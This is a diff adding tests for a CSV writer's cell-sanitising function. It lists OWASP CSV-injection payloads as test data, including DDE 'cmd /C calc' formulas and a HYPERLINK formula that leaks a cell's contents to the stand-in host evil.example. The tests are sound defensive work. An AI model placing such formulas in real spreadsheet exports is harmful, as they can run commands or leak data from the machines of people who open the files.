@@ -1,3 +1,5 @@
+import { execFileSync } from 'node:child_process';
+import { readFileSync } from 'node:fs';
 import { Readable } from 'node:stream';
 import {
   detectDelimiter,
@@ -167,10 +169,57 @@ describe('CSV writing', () => {
     expect(text).toContain('Ștefan,"a,b"\r\n');
     expect(text).toContain('x,"say ""hi""\nbye"\r\n');
   });
-  it('neutralises spreadsheet formulas but keeps phone numbers', () => {
-    expect(safeCell('=HYPERLINK("x")')).toBe('\'=HYPERLINK("x")');
-    expect(safeCell('@cmd')).toBe("'@cmd");
-    expect(safeCell('+40 722 123 456')).toBe('+40 722 123 456');
+  // OWASP CSV injection payloads: every one must come out starting with the apostrophe.
+  const payloads = [
+    '=1+2',
+    "=cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '+1+HYPERLINK("http://evil.example")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example?leak="&A1,"Click")',
+    '\t=1+2',
+    '\r=1+2',
+    '-1+1',
+    '+1',
+    '-',
+    '@',
+    '=',
+    '-1,5',
+    '-1.234,56',
+    '-1e5',
+    '+40 722 123 456',
+    '-12.5 RON',
+  ];
+  it.each(payloads)('neutralises the formula %j with a leading apostrophe', (payload) => {
+    expect(safeCell(payload)).toBe(`'${payload}`);
+  });
+  it('keeps a cell that is wholly a plain number, and ordinary text, as it is', () => {
+    for (const n of ['-12', '-12.5', '0', '42', '3.14']) expect(safeCell(n)).toBe(n);
+    expect(safeCell(-3.25)).toBe('-3.25');
+    expect(safeCell(7)).toBe('7');
+    expect(safeCell('Ștefan')).toBe('Ștefan');
+    expect(safeCell('a=b')).toBe('a=b');
     expect(safeCell(null)).toBe('');
+    expect(safeCell(undefined)).toBe('');
+  });
+  it('is idempotent (a guarded cell is not guarded twice)', () => {
+    expect(safeCell(safeCell('=1+2'))).toBe("'=1+2");
+  });
+  it('guards every cell toCsv writes, header and numbers included', () => {
+    const text = toCsv([
+      ['row', '=field'],
+      [-4, "-2+3+cmd|' /C calc'!A0"],
+      [7, '+1+HYPERLINK("http://evil.example")'],
+    ]);
+    expect(text).toBe(
+      'row,\'=field\r\n-4,\'-2+3+cmd|\' /C calc\'!A0\r\n7,"\'+1+HYPERLINK(""http://evil.example"")"\r\n',
+    );
+  });
+  it('is the only CSV writer: no other source file imports csv-stringify', () => {
+    const files = execFileSync('git', ['ls-files', '*.ts', '*.tsx', '*.mjs', '*.js'], { encoding: 'utf8' })
+      .split('\n')
+      .filter((f) => f && !f.startsWith('test/'));
+    const writers = files.filter((f) => /from 'csv-stringify|require\('csv-stringify/.test(readFileSync(f, 'utf8')));
+    expect(writers).toEqual(['shared/crm/csv.ts']);
   });
 });
